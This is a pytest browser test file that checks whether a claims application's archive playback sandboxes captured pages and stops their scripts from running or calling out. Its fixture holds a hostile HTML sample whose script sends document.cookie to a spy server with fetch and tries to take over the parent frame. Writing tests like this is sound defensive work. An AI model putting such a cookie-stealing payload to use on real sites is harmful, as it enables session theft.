"""Archived pages in a real browser: their scripts never run, even on our origin."""

import html
import re

import pytest

from claims import services
from claims.models import Claim
from tests.capture_servers import Server, respond
from tests.conftest import add_source, client_for

pytestmark = pytest.mark.browser


def hostile_page(spy):
    """An archived page that tries to run script, phone home and frame-bust."""
    return (
        "<html><head><title>Original title</title></head><body>"
        "<p id='evidence'>Beweisstück</p>"
        "<script>document.title = 'SCRIPT RAN';"
        f"fetch('{spy}/fetch?c=' + document.cookie);"
        "try { parent.document.title = 'PARENT OWNED' } catch (e) {}</script>"
        f"<img src='{spy}/img' onerror=\"document.title='HANDLER RAN'\">"
        "</body></html>"
    ).encode()


def test_archived_scripts_do_not_run_on_the_application_origin(
    transactional_db, capture_settings, make_claim, live_server, page
):
    with Server({}) as spy:
        body = hostile_page(spy.url("").rstrip("/"))
        with Server({"/hostile": respond(body)}) as origin:
            source = add_source(
                make_claim(status=Claim.Status.PUBLISHED), url=origin.url("/hostile")
            )
            services.run_capture(capture_id=source.captures.get().pk)
        capture = source.captures.get()
        page.context.add_cookies(
            [{"name": "sessionid", "value": "secret", "url": live_server.url}]
        )

        page.goto(live_server.url + capture.get_absolute_url())
        frame = page.frame_locator("iframe.capture__frame")
        frame.locator("#evidence").wait_for()
        title_with_frame = page.title()
        page.goto(f"{live_server.url}/archive/{capture.pk}/raw/")
        page.locator("#evidence").wait_for()
        top_level_title = page.title()

        assert spy.requests == []
    assert title_with_frame.startswith("Archived copy")
    assert top_level_title == "Original title"


def test_control_the_same_page_without_the_sandbox_does_run_its_script(page):
    """Proves the test above can fail: unsandboxed, the page's script runs."""
    with Server({}) as spy:
        body = hostile_page(spy.url("").rstrip("/"))
        with Server({"/hostile": respond(body)}) as origin:
            page.goto(origin.url("/hostile"))
            page.wait_for_function(
                "document.title === 'SCRIPT RAN' || document.title === 'HANDLER RAN'"
            )
            page.wait_for_timeout(300)
        assert spy.requests


def test_an_archived_script_cannot_run_as_a_script_of_the_application(
    transactional_db, capture_settings, make_claim, live_server, page
):
    """script-src 'self' lets a page of ours load scripts from our origin, and
    archived files are served from it: markup slipped into one of our pages
    must not be able to run a cited script file through its archived copy."""
    script = b"document.title = 'ARCHIVED SCRIPT RAN'"
    served = respond(script, headers=(("Content-Type", "text/javascript"),))
    with Server({"/app.js": served}) as origin:
        source = add_source(
            make_claim(status=Claim.Status.PUBLISHED), url=origin.url("/app.js")
        )
        services.run_capture(capture_id=source.captures.get().pk)
    capture = source.captures.get()
    page.goto(live_server.url + "/")
    title = page.title()

    page.evaluate(LOAD_SCRIPT, f"/archive/{capture.pk}/raw/")

    assert page.title() == title


# Resolves once the browser has run the script, or refused it.
LOAD_SCRIPT = """url => new Promise(done => {
    const script = document.createElement("script");
    script.onload = script.onerror = done;
    script.src = url;
    document.head.append(script);
})"""


def test_a_drafts_copy_is_not_shown_again_once_its_grant_has_expired(
    transactional_db, capture_settings, make_claim, live_server, page, editor
):
    """The browser must not keep it: from its cache it would still show the
    copy to whoever opens the link after the grant ran out."""
    port = live_server.url.rpartition(":")[2]
    capture_settings.SITE_URL = f"http://localhost:{port}"
    capture_settings.ARCHIVE_PLAYBACK_ORIGIN = f"http://127.0.0.1:{port}"
    capture_settings.ALLOWED_HOSTS = ["testserver", "localhost", "127.0.0.1"]
    body = b"<html><body><p id='evidence'>Entwurf</p></body></html>"
    with Server({"/draft": respond(body)}) as origin:
        source = add_source(make_claim(), url=origin.url("/draft"))
        services.run_capture(capture_id=source.captures.get().pk)
    desk_page = client_for(editor).get(source.captures.get().get_absolute_url())
    src = html.unescape(re.search(r'<iframe[^>]* src="([^"]+)"', desk_page.text)[1])
    assert page.goto(src).status == 200

    capture_settings.PLAYBACK_GRANT_SECONDS = 0
    page.goto("about:blank")
    opened_again = page.goto(src)

    assert opened_again.status == 404
    assert "Entwurf" not in page.content()
